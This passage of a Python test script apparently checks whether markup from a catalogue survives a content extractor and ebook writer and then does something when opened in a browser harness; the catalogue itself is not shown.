    yield from rendered(document, {"extractor": extractor, "front_matter": True}, "markdown")


def chapters(document: Document, extractor: str) -> Iterator[str]:
    """The pages and the cover of a book that is made of a page, as XML, without the link to its own style sheet."""
    extraction = ridgeline.extract(document.html, url=document.url, extractor=extractor)
    with zipfile.ZipFile(BytesIO(write_book([extraction]))) as book:
        for name in book.namelist():
            if name.endswith((".xhtml", ".svg")):
                yield book.read(name).decode().replace(_STYLE_LINK, "", 1)


def attack(
    harness: Harness, markups: Mapping[str, str], extractors: Sequence[str] = EXTRACTORS
) -> tuple[int, list[str]]:
    """Open all that is written of some kinds: the number of documents, and what happened, by kind."""
    made: dict[tuple[str, bool], str] = {}  # the kind of each document, and whether it is XHTML
    for kind, markup in markups.items():
        for document in pages(markup):
            for extractor in extractors:
                made.update({(html, False): kind for html in written(document, extractor)})
                made.update({(text, True): kind for text in chapters(document, extractor)})
    happened = []
    for is_xhtml in (False, True):
        chosen = [(text, kind) for (text, form), kind in made.items() if form is is_xhtml]
        for part in _parts(chosen):
            found = harness.open([text for text, _ in part], is_xhtml=is_xhtml)
            happened += [f"{part[number][1] if number >= 0 else part}: {events}" for number, events in found.items()]
    return len(made), happened


def alive(harness: Harness, markups: Mapping[str, str]) -> set[str]:
    """The kinds that do something in this browser as they are, or could."""
    found: set[str] = set()
    for kind, markup in markups.items():  # alone, since some of them cannot be told apart
        if harness.open([markup.encode("utf-8", "replace").decode()]):
            found.add(kind)
    return found


def _parts(items: Sequence[tuple[str, str]]) -> Iterable[Sequence[tuple[str, str]]]:
    return (items[start : start + _A_LOAD] for start in range(0, len(items), _A_LOAD))


def main(arguments: Sequence[str] | None = None) -> int:
    """Try the whole catalogue; the exit code is 1 if anything happened."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--list", action="store_true")
    options = parser.parse_args(arguments)
    if options.list:
        print("\n".join(f"{kind}  {markup[:150]!r}" for kind, markup in kinds().items()))
        return 0
    with run_harness() as harness:
        print(f"{len(kinds())} kinds, of which {len(alive(harness, kinds()))} do something as they are")
        count, happened = attack(harness, kinds())
    print(*happened, f"{count:,} documents, {len(happened)} did something", sep="\n")
    return bool(happened)


if __name__ == "__main__":
    sys.exit(main())
